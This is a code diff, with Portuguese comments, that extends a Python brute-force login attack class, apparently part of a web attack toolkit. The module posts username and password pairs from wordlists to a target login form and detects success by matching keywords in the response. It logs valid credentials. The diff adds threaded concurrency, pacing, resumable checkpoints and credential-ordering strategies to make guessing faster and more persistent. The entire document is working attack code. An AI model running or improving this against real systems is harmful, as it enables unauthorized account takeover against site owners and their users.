@@ -1,112 +1,193 @@
 import time
-import random
-import streamlit as st
-from config import log_result, get_log_filename
-from datetime import datetime, timedelta
+from concurrency import HostLimiter, bounded_map
+from config import get_log_filename
+from events import EventLog
+from live_log import LiveLogSink
+from pacing import Pacer
+from attacks.credential_strategies import CredentialStrategy
+from attacks.response_cache import VerdictCache, response_fingerprint
 
 class BruteForceAttack:
+    # Delay do modo fixo quando nenhum Pacer é informado
+    DEFAULT_DELAY_RANGE = (0.5, 1.5)
+
     def __init__(self, session_manager):
         self.session_manager = session_manager
         self.valid_credentials = []
+        self.verdict_cache = VerdictCache()
+        self.total_attempts = 0
+        self.credential_plan = None
+
+    def _attempt_login(self, target_url, username, password):
+        """Envia uma tentativa de login e retorna a resposta."""
+        data = {
+            "Usuario": "Login",
+            "Login": username,
+            "Senha": password
+        }
+        return self.session_manager.session.post(target_url, data=data, allow_redirects=True)
+
+    def _is_valid_login(self, response):
+        """
+        Verifica se a resposta indica um login bem-sucedido. Respostas
+        idênticas (em geral a página de login inválido) reaproveitam o
+        veredicto do verdict_cache.
+        """
+        fingerprint = response_fingerprint(response)
+        verdict = self.verdict_cache.get(fingerprint)
+        if verdict is None:
+            success_indicators = ["Bem-vindo", "Home", "Dashboard", "welcome", "success"]
+            response_text = response.text.lower()
+            verdict = any(indicator.lower() in response_text for indicator in success_indicators)
+            self.verdict_cache.put(fingerprint, verdict)
+        return verdict
+
+    def _iter_attempts(self, target_url, credentials, pacer, concurrency=1, max_per_host=None):
+        """
+        Executa as tentativas (índice, username, password) e produz
+        (índice, username, password, response, erro, sleep_time).
 
-    def run(self, target_url, usernames, passwords, log_file=None, max_attempts=100, delay=1.0, 
-            live_log_container=None, progress_container=None):
+        No modo sequencial a espera indicada pelo pacer fica a cargo do chamador;
+        com concurrency > 1 as requisições (e as esperas) são feitas por um pool
+        de threads limitado e o consumo das credenciais continua sob demanda.
+        """
+        if concurrency <= 1:
+            for index, username, password in credentials:
+                response, error = None, None
+                try:
+                    response = self._attempt_login(target_url, username, password)
+                except Exception as e:
+                    error = e
+                pacer.record(response, error)
+                yield index, username, password, response, error, pacer.next_delay()
+            return
+
+        limiter = HostLimiter(max_per_host or concurrency)
+
+        def worker(credential):
+            _, username, password = credential
+            sleep_time = pacer.wait()
+            response, error = None, None
+            try:
+                with limiter.slot(target_url):
+                    response = self._attempt_login(target_url, username, password)
+            except Exception as e:
+                error = e
+            pacer.record(response, error)
+            return response, error, sleep_time
+
+        for (index, username, password), result, error in bounded_map(worker, credentials, concurrency):
+            if error is not None:
+                yield index, username, password, None, error, 0.0
+            else:
+                response, request_error, sleep_time = result
+                yield index, username, password, response, request_error, sleep_time
+
+    def run(self, target_url, usernames, passwords, log_file=None, max_attempts=100, pacer=None,
+            live_log_container=None, progress_container=None, concurrency=1, max_per_host=None,
+            checkpoint=None, events=None, credentials=None, strategy=None):
         """
         Executa o ataque de brute force com logs em tempo real.
+
+        usernames e passwords podem ser listas ou Wordlist (arquivos lidos sob demanda).
+        concurrency > 1 ativa o modo concorrente (pool de threads limitado);
+        max_per_host limita as requisições simultâneas ao mesmo host.
+        pacer (Pacer) controla o ritmo das tentativas; sem ele, usa o delay
+        fixo DEFAULT_DELAY_RANGE.
+        checkpoint (Checkpoint) salva periodicamente a posição no produto de
+        credenciais; se já tiver uma posição, a execução é retomada dali.
+        events (EventLog) recebe um registro estruturado por tentativa.
+        credentials: pares (username, password) já definidos (ex.: um shard da
+        execução distribuída); substituem o produto usernames × passwords.
+        strategy (CredentialStrategy) define ordem, deduplicação, ordenação
+        por frequência e parada por usuário; max_attempts limita as
+        requisições efetivamente enviadas.
         """
         if log_file is None:
             log_file = get_log_filename()
 
-        # Lista para logs em tempo real
-        live_logs = []
-        
-        # Extrair componentes do progress_container
-        progress_bar = None
-        status_text = None
-        if progress_container:
-            progress_bar, status_text = progress_container
-
-        def add_log(message, update_progress=None):
-            """Função para adicionar log e atualizar interface em tempo real"""
-            brazil_time = datetime.now() - timedelta(hours=3) 
-            timestamp = brazil_time.strftime("%H:%M:%S")
-            formatted_log = f"[{timestamp}] {message}"
-            live_logs.append(formatted_log)
-            
-            # Salvar no arquivo
-            log_result(message, log_file)
-            
-            # Atualizar logs em tempo real
-            if live_log_container:
-                display_logs = live_logs[-15:] if len(live_logs) > 15 else live_logs
-                live_log_container.text_area(
-                    f"📋 Logs em Tempo Real ({len(live_logs)} total):", 
-                    value="\n".join(display_logs),
-                    height=300,
-                    key=f"live_logs_{len(live_logs)}"
-                )
-            
-            # Atualizar progresso
-            if progress_bar and update_progress is not None:
-                progress_bar.progress(update_progress)
-            
-            if status_text:
-                status_text.text(f"🔄 {message}")
+        # Sink compartilhado para logs em tempo real
+        sink = LiveLogSink(log_file, live_log_container, progress_container, key_prefix="live_logs")
+        add_log = sink.add_log
+        events = (events or EventLog()).for_module("brute_force")
 
         add_log("🚀 Iniciando ataque de Brute Force...", 0)
+        if pacer is None:
+            pacer = Pacer(mode="fixed", delay_range=self.DEFAULT_DELAY_RANGE)
+        add_log(f"🚦 Ritmo: {pacer.describe()}")
         
         attempts = 0
-        found = False
-        total_combinations = min(len(usernames) * len(passwords), max_attempts)
-
-        for i, username in enumerate(usernames):
-            for j, password in enumerate(passwords):
-                if attempts >= max_attempts:
-                    add_log(f"⚠️ Limite de {max_attempts} tentativas atingido.")
-                    break
-
-                attempts += 1
-                progress_percent = int((attempts / total_combinations) * 90)  # Deixa 10% para finalização
-                
-                add_log(f"🔍 Tentativa {attempts}/{total_combinations}: {username}:{password}", progress_percent)
-
-                data = {
-                    "Usuario": "Login",
-                    "Login": username,
-                    "Senha": password
-                }
+        self.verdict_cache.clear()
+        strategy = strategy or CredentialStrategy()
+        plan = self.credential_plan = (strategy.plan_pairs(credentials) if credentials is not None
+                                       else strategy.plan(usernames, passwords))
+        total_combinations = min(plan.total, max_attempts)
+        add_log(f"🧮 Estratégia: {strategy.describe()} ({plan.total} combinações)")
 
-                try:
-                    response = self.session_manager.session.post(target_url, data=data, allow_redirects=True)
+        # Retomada: restaura achados/contadores e pula as credenciais já testadas
+        start_position = 0
+        if checkpoint is not None and checkpoint.position:
+            start_position = checkpoint.position
+            attempts = checkpoint.counters.get("attempts", start_position)
+            plan.avoided["short_circuit"] = checkpoint.counters.get("short_circuit", 0)
+            self.valid_credentials = [tuple(c) for c in checkpoint.findings]
+            for username, password in self.valid_credentials:
+                plan.mark_valid(username, password)
+            add_log(f"♻️ Retomando execução a partir da posição {start_position + 1}/{plan.total} "
+                    f"({attempts} tentativas já feitas)")
 
-                    success_indicators = ["Bem-vindo", "Home", "Dashboard", "welcome", "success"]
-                    if any(indicator.lower() in response.text.lower() for indicator in success_indicators):
-                        add_log(f"✅ SUCESSO! Credenciais válidas: {username}:{password}")
-                        self.valid_credentials.append((username, password))
-                        found = True
-                    else:
-                        add_log(f"❌ Falha: {username}:{password} (Status: {response.status_code})")
+        if concurrency > 1:
+            self.session_manager.configure_transport(concurrency)
+            add_log(f"⚡ Modo concorrente: {concurrency} workers, até {max_per_host or concurrency} requisições simultâneas por host")
 
-                except Exception as e:
-                    add_log(f"🔥 Erro na tentativa: {str(e)}")
+        # Gerado sob demanda: acertos registrados no plano já valem para as próximas credenciais
+        indexed_credentials = plan.iter(start=start_position, limit=max(0, max_attempts - attempts))
 
-                # Delay com feedback visual
-                sleep_time = random.uniform(delay / 2, delay * 1.5)
-                add_log(f"⏱️ Aguardando {sleep_time:.1f}s...")
-                
-                # Sleep em pequenos incrementos para manter responsividade
-                sleep_steps = 10
-                for step in range(sleep_steps):
-                    time.sleep(sleep_time / sleep_steps)
-                    # Pequena atualização visual durante o sleep
-                    if live_log_container and step == sleep_steps // 2:
-                        pass  # Pode adicionar algum feedback visual aqui
-
-            if found and attempts >= max_attempts:
+        for index, username, password, response, error, sleep_time in self._iter_attempts(
+                target_url, indexed_credentials, pacer, concurrency, max_per_host):
+            attempts += 1
+            progress_percent = int((attempts / total_combinations) * 90)  # Deixa 10% para finalização
+            
+            add_log(f"🔍 Tentativa {attempts}/{total_combinations}: {username}:{password}", progress_percent)
+
+            if error is not None:
+                add_log(f"🔥 Erro na tentativa: {str(error)}")
+                events.emit("login", url=target_url, field=username, payload=password, error=error)
+            elif self._is_valid_login(response):
+                add_log(f"✅ SUCESSO! Credenciais válidas: {username}:{password}")
+                self.valid_credentials.append((username, password))
+                plan.mark_valid(username, password)
+                events.emit("login", "valid", url=target_url, field=username, payload=password, response=response)
+            else:
+                add_log(f"❌ Falha: {username}:{password} (Status: {response.status_code})")
+                events.emit("login", "invalid", url=target_url, field=username, payload=password, response=response)
+
+            # Posição segura para retomada: primeira tentativa ainda não concluída
+            plan.done(index)
+            if checkpoint is not None:
+                checkpoint.update(plan.resume_position, findings=self.valid_credentials,
+                                  counters={"attempts": attempts,
+                                            "short_circuit": plan.avoided["short_circuit"]},
+                                  total=plan.total)
+            if pacer.cancelled:
+                add_log("⛔ Cancelamento solicitado: encerrando com resultados parciais.")
                 break
 
+            if sleep_time > 0:
+                add_log(f"⏱️ Aguardando {sleep_time:.1f}s...")
+            if concurrency <= 1:
+                sink.sleep(sleep_time)
+
+        if plan.limited:
+            add_log(f"⚠️ Limite de {max_attempts} tentativas atingido.")
+        self.total_attempts = attempts
+        plan.finalize(self.valid_credentials)
+        add_log(f"🧮 Requisições evitadas: {plan.describe()}")
+
         # Finalização
         add_log("🔄 Processando resultados finais...", 95)
+        add_log(f"🚦 Ritmo final: {pacer.describe()}")
+        add_log(f"♻️ Cache de respostas: {self.verdict_cache.describe()}")
         
         if self.valid_credentials:
             result = f"🏆 SUCESSO! Credenciais válidas encontradas: {self.valid_credentials}"
@@ -114,10 +195,19 @@ class BruteForceAttack:
         else:
             result = f"😔 Nenhuma credencial válida encontrada após {attempts} tentativas."
             add_log(result)
+        result += f"\n🧮 {attempts} tentativas enviadas; requisições evitadas: {plan.describe()}"
 
         add_log("�� Ataque de Brute Force finalizado!", 100)
+        sink.flush()
+        # Cancelado: o checkpoint fica disponível para retomada
+        if checkpoint is not None:
+            if pacer.cancelled:
+                checkpoint.flush()
+            else:
+                checkpoint.complete()
         
         # Pequena pausa para mostrar finalização
-        time.sleep(1)
+        if live_log_container:
+            time.sleep(1)
         
         return result
\ No newline at end of file